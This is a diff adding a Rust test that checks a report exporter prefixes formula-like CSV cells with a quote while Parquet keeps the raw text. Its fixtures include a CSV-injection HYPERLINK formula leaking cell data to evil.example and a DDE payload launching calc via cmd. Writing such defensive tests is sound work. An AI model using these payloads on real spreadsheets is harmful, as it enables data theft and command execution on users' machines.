@@ -230,6 +230,58 @@ fn free_text_is_quoted_in_csv_and_empty_text_differs_from_none() {
 }
 
 #[test]
+fn text_a_spreadsheet_would_execute_is_neutralised_in_csv_and_kept_in_parquet() {
+    // A service and a case note named like formulas (CSV injection): Excel would run them.
+    const SERVICE: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Housing\")";
+    const NOTE: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let mut report = fixture::report(2, 8, Edition::Internal);
+    report.services[0].name = SERVICE.to_string();
+    for row in &mut report.by_service {
+        if row.service_code == report.services[0].code {
+            row.service_name = SERVICE.to_string();
+        }
+    }
+    report.cases[0].notes = Some(NOTE.to_string());
+    report.cases[1].notes = Some("-1 day late, +2 days".to_string());
+    let artifacts = render(&report).unwrap();
+
+    let by_service = &artifact(&artifacts, "by_service.csv").bytes;
+    let mut reader = ::csv::Reader::from_reader(by_service.as_slice());
+    let header = reader.headers().unwrap().clone();
+    let name_at = header.iter().position(|h| h == "service_name").unwrap();
+    let names: Vec<String> = reader
+        .records()
+        .map(|r| r.unwrap()[name_at].to_string())
+        .collect();
+    assert!(names.contains(&format!("'{SERVICE}")), "{names:?}");
+    assert!(
+        names.iter().all(|n| !n.starts_with(['=', '+', '-', '@'])),
+        "no cell starts like a formula: {names:?}"
+    );
+
+    let cases = &artifact(&artifacts, "cases.csv").bytes;
+    let mut reader = ::csv::Reader::from_reader(cases.as_slice());
+    let header = reader.headers().unwrap().clone();
+    let notes_at = header.iter().position(|h| h == "notes").unwrap();
+    let notes: Vec<String> = reader
+        .records()
+        .map(|r| r.unwrap()[notes_at].to_string())
+        .collect();
+    assert_eq!(notes[0], format!("'{NOTE}"));
+    assert_eq!(notes[1], "'-1 day late, +2 days");
+
+    // Parquet is typed data, not a spreadsheet: the names are as the council wrote them.
+    let parquet = read_parquet(&artifact(&artifacts, "by_service.parquet").bytes);
+    let names = parquet
+        .column("service_name")
+        .unwrap()
+        .str()
+        .unwrap()
+        .clone();
+    assert!(names.into_iter().flatten().any(|n| n == SERVICE));
+}
+
+#[test]
 fn the_same_report_gives_the_same_bytes_and_every_file() {
     let report = fixture::report(25, 150, Edition::Public);
     let first = render(&report).unwrap();
